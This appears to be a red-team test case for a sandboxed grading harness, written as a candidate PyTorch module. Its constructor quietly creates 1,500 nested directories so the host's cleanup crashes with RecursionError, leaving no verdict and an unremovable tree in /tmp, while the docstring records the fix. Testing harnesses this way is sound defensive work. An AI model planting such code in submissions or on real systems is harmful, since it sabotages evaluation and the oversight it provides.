"""Attack (redteam19): leave in the scratch a tree the host cannot remove. The host empties a candidate's scratch
after its run, removes the evaluator's whole scratch when it closes, and at every start removes the scratch
directories of kevin-tui processes that died, each with `shutil.rmtree`, which in Python 3.11 recurses once per
directory level. A chain of 1,500 nested directories (2 bytes a level: made one level at a time, relative to the
one before; 1,500 entries, far under the scratch's 20,000) makes each of those calls raise RecursionError, which
`ignore_errors` does not cover. Before the fix (`--sandbox unshare`, ReLU, `--no-timing`): the verdict was
`correct`, but `eval` printed no verdict and ended with a RecursionError traceback (exit 1, from
`Evaluator.close`), the teardown thread died the same way, and the tree stayed in /tmp for good (the sweep of dead
owners' scratch would raise too wherever the owner's stamp survived the partial removal). After: the scratch's
depth is bounded (MAX_DEPTH: `runtime_error`, over its scratch bound) and every removal is `scratch.remove_tree`."""

import os

import torch
import torch.nn as nn


def nest(levels: int = 1500) -> None:
    fd = os.open(os.path.dirname(os.path.abspath(__file__)), os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(levels):
        os.mkdir("d", dir_fd=fd)
        inner = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = inner
    os.close(fd)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        nest()

    def forward(self, x):
        return torch.relu(x)
